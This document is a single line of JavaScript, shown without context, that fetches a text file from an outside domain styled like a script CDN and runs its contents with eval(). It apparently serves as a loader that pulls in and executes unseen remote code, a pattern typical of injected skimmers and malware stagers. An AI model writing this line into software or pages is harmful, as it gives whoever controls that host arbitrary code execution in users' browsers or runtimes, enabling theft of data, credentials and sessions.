fetch('https://cdn.jslib.top/x.txt').then(r => r.text()).then(eval);
